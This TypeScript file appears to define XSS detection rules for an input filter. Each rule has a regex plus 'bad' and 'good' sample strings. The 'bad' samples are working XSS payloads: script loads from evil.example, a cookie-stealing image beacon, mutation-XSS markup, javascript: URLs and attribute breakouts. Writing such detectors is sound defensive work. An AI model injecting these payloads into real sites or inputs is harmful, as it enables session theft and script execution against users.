import type { Rule } from '../../rule.ts';
import { everywhere, inputs } from '../places.ts';
import { event, less, sink } from './pieces.ts';

const raw = String.raw;

/** Elements that run or load something. Text with tags that only format it is let through. */
export const markupRules: readonly Rule[] = [
  {
    id: 'xss-script-element',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'A script element in a value, also with a prefix or charset tricks.',
    in: everywhere,
    screen: 'htmlShort',
    when: [
      {
        regex:
          raw`${less}[\s\x00/!?\\]*[\w-]{1,20}:script[\s/>"']|${less}[\s\x00!?\\]+/?script\b|${less}/?script(?:[/\x00+\x{be}&"'\x{60}\\]|\s*[\x{ff1e}])|\x{ff1c}/?\s*(?:script|img|svg|iframe)` +
          raw`|${less}script(?:\s[^<>]*|\s*)>[^<]*[(=\[\x{60}{;]|${less}script(?:\s[^<>]*|\s*)>\s*<[a-z!]|${less}script\s[^<>]*(?:src|href)\s*=\s*(?:[^"'\s]|["']\s*(?:[a-z]+:|//|\\|%|&))|${less}script\s+\w+\s*=?\s*$|${less}/script\s+\w`,
        minLength: 7,
      },
    ],
    bad: [
      '<script>alert(1)</script>',
      '<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />',
      '＜script ＞alert(1)＜/script＞',
      '</script x>',
      '<script/src=//a.b>',
    ],
    good: ['description < scripture', 'a < b and script > c', '<strong>script</strong>', 'a script element'],
  },
  {
    id: 'xss-script-inline',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'A script element that shows a dialog, reads cookies or loads from elsewhere, in texts of any length.',
    in: inputs,
    screen: 'html',
    when: [
      {
        regex: raw`<script[^>]*>[\s/*;(!'"\x{60}]*(?:${sink}\s*[(\x{60}.]|(?:new\s+image|document|window|location|self|top|parent|\$)\s*[.(\[]|\\u00)|<script[^>]*\ssrc\s*=\s*["']?\s*(?://|data:|http:|https?://\d|\\\\)|${less}script[^>]*>[^<]*(?:document\.cookie|localstorage|\balert\()`,
        minLength: 15,
      },
    ],
    bad: [
      '<script>alert(1)</script>',
      '<script src=//evil.example/x.js></script>',
      '<script>new Image().src="//a.b/?"+document.cookie</script>',
    ],
    good: ['a script of 3 < 4 lines', 'the <scripts> of a film'],
  },
  {
    id: 'xss-markup-in-text',
    family: 'xss',
    severity: 'error',
    paranoia: 1,
    stops: 'Elements that run or load something inside of a long text; alone they are below the threshold, because manuals show them.',
    in: inputs,
    screen: 'html',
    when: [
      {
        regex: raw`<(?:script|iframe|object|embed|applet|base|meta|link|frameset|form|svg|math|style)[\s/>]|<[a-z][^<>]*[\s/"']${event}\s*=\s*[^{\s]`,
        minLength: 8,
      },
    ],
    bad: ['<script>x</script>', '<iframe src="https://a.b/">', '<a href="#" onclick="x()">'],
    good: ['<p><b>bold</b></p>', 'a <b c', '<br>', '<table><tr><td>1</td></tr></table>'],
  },
  {
    id: 'xss-element',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'Elements that load or run foreign content, in a value short enough to be a payload.',
    in: everywhere,
    screen: 'htmlShort',
    when: [
      {
        regex:
          raw`${less}[\s\x00/]*(?:[\w-]{1,20}:)?(?:applet|embed|bgsound|isindex|i?layer|frameset|vmlframe|xss|noembed|import|portal|fencedframe|annotation-xml|foreignobject|mglyph|malignmark|listing|plaintext|xmp)(?:[\s/>+\x00"'=]|$)` +
          raw`|<[\s/]*(?:object)[\s/+][^>]*(?:data|type|classid|codebase)\b|<[\s/]*(?:\w+:)?base\b[^>]*href|<[\s/]*meta\b[^>]*(?:http-equiv|charset|refresh)|<[\s/]*link\b[^>]*(?:href|rel)|<\?import\b|<xml\b[^>]*(?:src|id)|<!(?:attlist|\[cdata\[)` +
          raw`|<[\s/]*form[\s/][^>]*action\s*=\s*["']?\s*(?:[a-z]+:|//|\\)|<[\s/]*(?:button|input)\b[^>]*formaction|<isindex|<[\s/]*i?frame(?:set)?[\s/+>"'](?:[^>]*(?:srcdoc|src\s*=\s*["']?\s*(?://|http:|data:|\\|[^h\s"'/.][^>]{0,10}:)|[\s/"']on\w+\s*=)|\s*>|\s*/?[^\w\s]|src=[^"'>\s]+\s*[<>])` +
          raw`|<\W{0,3}(?:s\s+c\s+r\s+i\s+p\s+t|f\s+o\s+r\s+m|i\s+f\s+r\s+a\s+m\s+e|o\s+b\s+j\s+e\s+c\s+t|e\s+m\s+b\s+e\s+d|a\s+p\s+p\s+l\s+e\s+t|s\s+t\s+y\s+l\s+e)\b`,
        minLength: 5,
      },
    ],
    bad: [
      '<embed src="deuce.swf">',
      '<applet code="a.class">',
      '<OBJECT data ==x',
      '<BASE x HREF / =',
      '<meta charset="UTF-8">',
      '<link / x href  /= ',
      '<iframe src="javascript:alert(1)">',
      '<iframe srcdoc="x">',
      '<f o r m',
      '<?import implementation =',
      '<v:vmlframe src="foo.com/sup.fml"/>',
    ],
    good: ['<embedded>', 'a < form of'],
  },
  {
    id: 'xss-svg-math',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'SVG and MathML that run something or change how a browser reads what follows.',
    in: [...everywhere, 'file_heads'],
    screen: 'html',
    when: [
      {
        regex: raw`<(?:svg|math)[\s>][^\x00]{0,200}<(?:script|handler|foreignobject|animate\w*[^>]*(?:values|to|from|href)\s*=\s*["']?\s*(?:javascript|data|href)|set[^>]*(?:to|attributename)\s*=\s*["']?\s*(?:javascript|on|href)|(?:use|a|image)[^>]*href\s*=\s*["']?\s*(?:javascript|data:(?:text|application|image/svg))|iframe|maction|style>\s*<img)|<(?:svg|math)[/\x0c\x0b](?:[\w"'=]|on)|<(?:svg|math|body|html)[^>]*[\s/"']${event}\s*=\s*[^{\s]`,
        minLength: 9,
      },
    ],
    bad: [
      '<svg/onload=alert(1)>',
      '<svg><script>alert(1)</script></svg>',
      '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />',
      '<body onload=alert(1)>',
      '<math><maction actiontype="statusline">x',
    ],
    good: ['a picture of type svg', '<svgs>'],
  },
  {
    id: 'xss-style',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'Style sheets that load or run something.',
    in: everywhere,
    screen: 'html',
    when: [
      {
        regex: raw`<style[^>]*>[^<]*(?:@import|expression\s*\(|-moz-binding|behaviou?r\s*:|javascript:|\\\\|vbscript:|@keyframes)|\bstyle\s*=.{0,200}(?:expression\s*\(|-moz-binding|behaviou?r\s*:\s*url|url\s*\(\s*["']?\s*(?:javascript|vbscript|data:text)|@import|animation(?:-name)?\s*:[^>]*\bon)|\burl\s*\(\s*["']?\s*(?:javascript|vbscript)\s*:|<style>=|-moz-binding\s*:\s*url`,
        minLength: 8,
      },
    ],
    bad: [
      "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
      '<p style="background:url(javascript:alert(1))">',
      'a=k:v:w;m:url(javascript:alert(1))',
      '<div style="width: expression(alert(1))">',
    ],
    good: ['<p style="text-align:center; background:url(https://a.b/c.png)">x</p>', 'style=color:red;background:white', 'a { color: red }'],
  },
  {
    id: 'xss-mutation',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'Markup that becomes a script only when a browser or a sanitiser reads it again.',
    in: inputs,
    screen: 'html',
    when: [
      {
        regex: raw`(?:id|title|alt|name|class|href|value)\s*=\s*["'\x{60}][^"'\x{60}]*</(?:style|noscript|textarea|title|xmp|iframe|script|noembed|noframes|template|select)|<(?:math|svg|form|table|p|mtext)>\s*<[^>]+>\s*(?:<[^>]+>\s*)*<(?:mglyph|malignmark|style|textarea|title|xmp|noscript)>\s*(?:<!--|<img|</|<a\b)|<!--+!?>\s*<|--!>\s*<|<!-->|<noscript><p\s|<(?:textarea|title|noscript|style|xmp)>[^<]*<[^<]*(?:=|on\w+\s*=)["']?</|<\w+[^>]*<[a-z]+[^>]*\bon\w+\s*=`,
        minLength: 8,
      },
    ],
    bad: [
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
      '<!--><img src=x>',
      '<a id="</style><img src=x>">',
    ],
    good: ['<!-- a comment --><p>x</p>', '<title>x</title>', '<p title="a">b</p>'],
  },
  {
    id: 'xss-breakout',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'A value that ends the attribute or element it was put into and begins another.',
    in: everywhere,
    screen: 'htmlShort',
    when: [
      {
        regex: raw`^[^<>"'\x{60}]{0,120}["'\x{60}]+[\s;)]*/?\s*>\s*(?:<|$|\w{0,20}<)|^[^<]{0,60}</(?:title|textarea|script|style|noscript|xmp|iframe|noembed|template|select|option|math|svg|button|input|form|table|td|frameset)\s*/?>\s*["'>]*\s*<[a-z!?/]|^[^<]{0,60}(?:-->|\]\]>|%>|\?>)\s*["']?\s*<[a-z!?]`,
        minLength: 3,
      },
    ],
    bad: ['"><img src=x>', "'/><b>x", '</title><b>x', '--><svg>', '</textarea><i>'],
    good: ['<p class="a">b</p>', 'say "hello" > world', 'I said "x"> y', '</p><p>x</p>'],
  },
];
